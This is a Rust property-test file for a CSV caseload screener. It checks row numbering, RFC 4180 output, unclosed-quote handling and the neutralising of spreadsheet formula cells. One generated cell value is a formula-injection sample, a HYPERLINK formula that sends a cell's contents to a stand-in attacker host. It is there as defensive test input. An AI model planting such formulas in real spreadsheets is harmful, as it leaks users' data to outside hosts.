//! Properties of any caseload: exactly one result row per data row, in order, numbered from 1,
//! each echoing its `ref`, whatever the cells hold (commas, quotes, line breaks, text that is
//! no answer at all, text a spreadsheet would run as a formula), however many fields a row has,
//! with or without a BOM, CRLF or LF; and the output is RFC 4180 that reads back as 16 fields a
//! row, no cell of which a spreadsheet would run as a formula. Never a panic. And a quote never
//! closed stops the rows exactly where the csv crate would have swallowed the rest.

#![cfg(not(target_arch = "wasm32"))]

use chrono::NaiveDate;
use proptest::prelude::*;
use screener_caseload::{write, Options, ReadError, Reader};

/// Columns a caseload may have (besides `ref`, always first).
const COLUMNS: &[&str] = &[
    "program",
    "as_of",
    "lang",
    "audience",
    "dsm5_diagnosis",
    "need_areas",
    "actt",
    "actt_auth_end",
    "birth_date",
    "enrolled_program",
    "planned_units_day",
    "mh_sud_disorder",
    "notes",
];

/// A cell: an answer people would write, or anything at all.
fn cell() -> impl Strategy<Value = String> {
    prop_oneof![
        Just(String::new()),
        Just("yes".to_owned()),
        Just("N".to_owned()),
        Just("nc-pss".to_owned()),
        Just("ne-peer-support".to_owned()),
        Just("mo-peer-support".to_owned()),
        Just("2026-11-22".to_owned()),
        Just("2010-02-29".to_owned()),
        Just("recent_crisis;relationships; daily_living".to_owned()),
        Just("none".to_owned()),
        Just("cstar_opioid".to_owned()),
        Just("12".to_owned()),
        Just("-3".to_owned()),
        Just("es".to_owned()),
        Just("family".to_owned()),
        Just("=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")".to_owned()),
        "[a-z ,;\"\r\n\t\u{e9}\u{1f600}=+@-]{0,12}",
    ]
}

fn quote(field: &str) -> String {
    if field.contains([',', '"', '\r', '\n']) {
        format!("\"{}\"", field.replace('"', "\"\""))
    } else {
        field.to_owned()
    }
}

#[derive(Debug, Clone)]
struct Caseload {
    header: Vec<&'static str>,
    /// Each row: its ref, then its other fields (perhaps too few or too many).
    rows: Vec<(String, Vec<String>)>,
    bom: bool,
    crlf: bool,
    trailing_newline: bool,
}

fn caseload() -> impl Strategy<Value = Caseload> {
    (proptest::sample::subsequence(COLUMNS, 1..COLUMNS.len()), any::<bool>(), any::<bool>(), any::<bool>())
        .prop_flat_map(|(columns, bom, crlf, trailing_newline)| {
            let width = columns.len();
            let row = ("[A-Za-z0-9 ,\"\n-]{1,10}", prop::collection::vec(cell(), width.saturating_sub(2)..=width + 1));
            prop::collection::vec(row, 0..25).prop_map(move |rows| Caseload {
                header: std::iter::once("ref").chain(columns.iter().copied()).collect(),
                rows,
                bom,
                crlf,
                trailing_newline,
            })
        })
}

impl Caseload {
    fn text(&self) -> Vec<u8> {
        let end = if self.crlf { "\r\n" } else { "\n" };
        let mut out = String::new();
        if self.bom {
            out.push('\u{feff}');
        }
        out.push_str(&self.header.join(","));
        for (reference, fields) in &self.rows {
            out.push_str(end);
            out.push_str(&quote(reference));
            for field in fields {
                out.push(',');
                out.push_str(&quote(field));
            }
        }
        if self.trailing_newline {
            out.push_str(end);
        }
        out.into_bytes()
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]

    #[test]
    fn one_result_row_per_data_row_in_order(caseload in caseload()) {
        let input = caseload.text();
        let today = NaiveDate::from_ymd_opt(2026, 11, 22).unwrap();
        let options = Options { program: Some("nc-pss".into()), ..Options::default() };
        let Ok(mut reader) = Reader::new(&input[..], &options, today) else {
            panic!("a caseload with a ref column and a program option is always usable");
        };
        let mut out = Vec::new();
        write::header(&mut out);
        let mut numbers = Vec::new();
        while let Some(row) = reader.next_row().unwrap() {
            numbers.push(row.row);
            write::row(&row, &mut out);
        }
        let want: Vec<u64> = (1..=caseload.rows.len() as u64).collect();
        prop_assert_eq!(&numbers, &want);

        let mut results = csv::ReaderBuilder::new().from_reader(&out[..]);
        let header = results.headers().unwrap().clone();
        prop_assert_eq!(header.iter().collect::<Vec<_>>(), write::COLUMNS.to_vec());
        let records: Vec<csv::StringRecord> = results.records().map(|r| r.unwrap()).collect();
        prop_assert_eq!(records.len(), caseload.rows.len());
        for (i, (record, (reference, fields))) in records.iter().zip(&caseload.rows).enumerate() {
            prop_assert_eq!(record.len(), 16);
            let number = (i + 1).to_string();
            prop_assert_eq!(&record[0], number.as_str());
            // `ref` is echoed as written, with an apostrophe first when a spreadsheet would run
            // it as a formula (SCREENING.md §10).
            let formula = reference.starts_with(['=', '+', '-', '@', '\t', '\r']);
            let echoed = if formula { format!("'{reference}") } else { reference.clone() };
            prop_assert_eq!(&record[1], echoed.as_str());
            for cell in record.iter() {
                prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a formula cell: {:?}", record);
            }
            // A row of the wrong length is invalid_request; any other row is screened or has
            // the contract's error.
            if fields.len() + 1 != caseload.header.len() {
                prop_assert_eq!(&record[13], "invalid_request");
            }
            prop_assert!(record[6].is_empty() != record[13].is_empty(), "an outcome or an error: {:?}", record);
        }
        prop_assert!(!out.contains(&b'\r') || caseload.rows.iter().any(|(r, f)| r.contains('\r') || f.iter().any(|c| c.contains('\r'))));
    }
}

/// The records the csv crate reads from `input`, and whether a quoted field is still open at its
/// end: exactly when a line break and `Z` after the input do not make a record `Z` of their own.
fn csv_crate(input: &[u8]) -> (usize, bool) {
    let read = |bytes: &[u8]| -> Vec<csv::ByteRecord> {
        let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(bytes);
        reader.byte_records().map(|r| r.expect("read from memory")).collect()
    };
    let records = read(input).len();
    let mut sentinel = input.to_vec();
    sentinel.extend_from_slice(b"\nZ\n");
    let last = read(&sentinel).pop().expect("a record");
    (records, last.iter().collect::<Vec<_>>() != [b"Z"])
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 1000, ..ProptestConfig::default() })]

    #[test]
    fn a_quote_never_closed_stops_the_rows_where_the_csv_crate_would_swallow_them(
        body in proptest::collection::vec(proptest::sample::select(&b"ab,\"\r\n"[..]), 0..120),
        bom in any::<bool>(),
    ) {
        let mut input = if bom { b"\xEF\xBB\xBF".to_vec() } else { Vec::new() };
        input.extend_from_slice(b"ref,notes\n");
        input.extend_from_slice(&body);
        let (records, open) = csv_crate(&input[if bom { 3 } else { 0 }..]);
        let today = NaiveDate::from_ymd_opt(2026, 11, 22).unwrap();
        let options = Options { program: Some("nc-pss".into()), ..Options::default() };
        let mut reader = match Reader::new(&input[..], &options, today) {
            Ok(reader) => reader,
            Err(e) => panic!("the header `ref,notes` is always usable: {e:?}"),
        };
        let mut rows = 0u64;
        let stopped = loop {
            match reader.next_row() {
                Ok(Some(row)) => {
                    rows += 1;
                    prop_assert_eq!(row.row, rows);
                }
                Ok(None) => break None,
                Err(ReadError::Unclosed(u)) => break Some(u),
                Err(ReadError::Io(e)) => panic!("{e}"),
            }
        };
        prop_assert_eq!(stopped.is_some(), open, "{:?}", String::from_utf8_lossy(&input));
        match stopped {
            // The swallowed record is the csv crate's last: the rows before it are all screened.
            Some(u) => {
                prop_assert_eq!(u.row, records as u64 - 1);
                prop_assert_eq!(rows, records as u64 - 2);
                prop_assert!(u.line >= 2 && u.lines_not_screened >= 1, "{:?}", u);
            }
            None => prop_assert_eq!(rows, records as u64 - 1),
        }
    }
}
